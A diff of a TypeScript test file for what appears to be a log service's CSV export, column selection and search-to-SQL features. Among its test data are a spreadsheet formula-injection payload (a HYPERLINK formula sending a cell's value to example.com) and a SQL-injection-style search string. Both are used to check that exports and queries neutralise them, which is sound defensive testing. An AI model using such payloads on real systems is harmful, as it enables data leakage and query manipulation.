@@ -72,7 +72,7 @@ export function onward(running: () => RunningService): void {
       const csv = await download({ query, format: 'csv', limit: 1_500 })
       expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
       const [head, first, ...more] = (await csv.text()).split('\r\n')
-      expect([head, more.length]).toEqual(['timestamp,id,project,event_message,metadata', 1_500])
+      expect([head, more.length]).toEqual(['"timestamp","id","project","event_message","metadata"', 1_500])
       expect(first).toContain(
         '"o2299","odd","entry 2299","{""trace_id"":""trace49"",""big"":12345678901234567890,',
       )
@@ -87,6 +87,46 @@ export function onward(running: () => RunningService): void {
       }
       expect((await download({}, 'nothing')).status).toBe(404)
       expect(await (await download({ query: 'message:nobody' })).text()).toBe('')
+    })
+
+    test('exports chosen columns, with all digits of numbers', async () => {
+      const columns = [
+        'message',
+        'customer."tax.id"',
+        'metadata.big',
+        'absent',
+        'customer',
+        'metadata.project',
+      ]
+      const csv = await (await download({ query: 'id:o9', format: 'csv', columns })).text()
+      expect(csv).toBe(
+        '"message","customer.""tax.id""","metadata.big","absent","customer","metadata.project"\r\n' +
+          '"entry 9",9,12345678901234567890,,"{""id"":""odd"",""tax.id"":9}",\r\n',
+      )
+      const lines = await (await download({ query: 'id:o9', columns: ['timestamp', 'big', 'absent'] })).text()
+      expect(lines).toMatch(/^\{"timestamp":"[\d-]+T[\d:.]+Z","big":12345678901234567890,"absent":null\}\n$/)
+      for (const wrong of [['a..b'], [], Array(51).fill('x')]) {
+        expect((await download({ columns: wrong })).status).toBe(400)
+      }
+    })
+
+    test('exports CSV without formulas, unless it is raw', async () => {
+      await admin('POST', '/api/sources', { name: 'onward_formulas' })
+      const formula = '=HYPERLINK("http://example.com/?"&A1)'
+      const entry = { id: '@id', event_message: formula, minus: -5, text: '-5', tab: '\t=1', plain: 'a=1' }
+      await send('onward_formulas', JSON.stringify(entry))
+      const columns = ['id', 'message', 'minus', 'text', 'tab', 'plain']
+      const rowOf = async (search: string) => {
+        const file = await running().call(`/api/sources/onward_formulas/export${search}`, {
+          method: 'POST',
+          headers: { 'Content-Type': 'application/json' },
+          body: JSON.stringify({ format: 'csv', columns }),
+        })
+        return (await file.text()).split('\r\n')[1]
+      }
+      const quoted = formula.replaceAll('"', '""')
+      expect(await rowOf('')).toBe(`"'@id","'${quoted}",-5,"'-5","'\t=1","a=1"`)
+      expect(await rowOf('?raw=true')).toBe(`"@id","${quoted}",-5,"-5","\t=1","a=1"`)
     })
 
     test('exports entries that are too large for one page, and leaves them out of the counts of fields', async () => {
@@ -132,7 +172,11 @@ export function onward(running: () => RunningService): void {
     test('becomes SQL of a moving range, for an endpoint', async () => {
       const search = { query: 'trace7', project: 'odd', last_seconds: 7_200 }
       const { query, count } = (await admin('POST', '/api/sources/onward/search-sql', search)).body
-      expect(query).toContain('timestamp >= @now - INTERVAL 7200 SECOND')
+      expect(query).toBe(
+        'SELECT timestamp, id, project, event_message, metadata\nFROM onward\n' +
+          "WHERE timestamp >= @now - INTERVAL 7200 SECOND AND timestamp <= @now AND project = 'odd' AND (matches('trace7'))\n" +
+          'ORDER BY timestamp DESC, id DESC',
+      )
       expect((await admin('POST', '/api/sql', { query: count })).body.result).toEqual([{ entries: 46 }])
       const saved = await admin('POST', '/api/endpoints', { name: 'onward.traces', query })
       expect([saved.status, saved.body.warnings ?? []]).toEqual([201, []])
@@ -142,6 +186,42 @@ export function onward(running: () => RunningService): void {
       const hostile = { query: `-metadata."{query1:String}":a id:", 'String') = '' OR 1 --" OR id:o7` }
       const sql = (await admin('POST', '/api/sources/onward/search-sql', hostile)).body
       expect((await admin('POST', '/api/sql', { query: sql.count })).body.result).toEqual([{ entries: 1 }])
+    })
+
+    test('has the same words in SQL: in endpoints, with parameters, in sandboxes and in joins', async () => {
+      const run = async (query: string) => (await admin('POST', '/api/sql', { query })).body
+      const call = async (name: string, values: Record<string, string>) =>
+        (await admin('GET', `/api/endpoints/query/${name}?${new URLSearchParams(values)}`)).body.result
+      const query = 'SELECT count() AS n FROM onward WHERE @word IS NULL OR matches(@word)'
+      expect((await admin('POST', '/api/endpoints', { name: 'onward.word', query })).status).toBe(201)
+      expect(await call('onward.word', { word: 'TRACE7' })).toEqual([{ n: 46 }])
+      expect(await call('onward.word', { word: '1000' })).toEqual([{ n: 1 }])
+      expect((await call('onward.word', {}))[0].n).toBeGreaterThanOrEqual(2_300)
+      const sandbox = 'WITH logs AS (SELECT id, event_message, metadata FROM onward) SELECT * FROM logs'
+      await admin('POST', '/api/endpoints', { name: 'onward.sandbox', query: sandbox, sandbox: true })
+      const own = "SELECT count() AS value, 'x' AS metadata FROM logs AS l WHERE matches('trace7')"
+      expect(await call('onward.sandbox', { sql: own })).toEqual([{ value: 46, metadata: 'x' }])
+      const joined = 'FROM onward AS o CROSS JOIN onward_too AS t'
+      const both = `SELECT count() AS n ${joined} WHERE matches(o, 'trace7') AND matches(t, 'Trace7')`
+      expect((await run(both)).result).toEqual([{ n: 46 }])
+      for (const [refused, line, column, message] of [
+        [`SELECT 1 ${joined}\nWHERE matches('x')`, 2, 7, "Write its name before the word: matches(o, 'x')."],
+        ["SELECT 1 FROM onward\nWHERE matches('x\ny') AND idd = '1'", 3, 9, 'no column idd'],
+        [
+          "SELECT 1 FROM (SELECT id FROM onward) AS o\nWHERE matches('x')",
+          2,
+          7,
+          'matches reads event_message',
+        ],
+      ] as const) {
+        const { error } = await run(refused)
+        expect(error).toMatchObject({
+          code: 'invalid_query',
+          line,
+          column,
+          message: expect.stringContaining(message),
+        })
+      }
     })
 
     test('has typed columns for keys with dots, and SQL that reads them gets a hint', async () => {
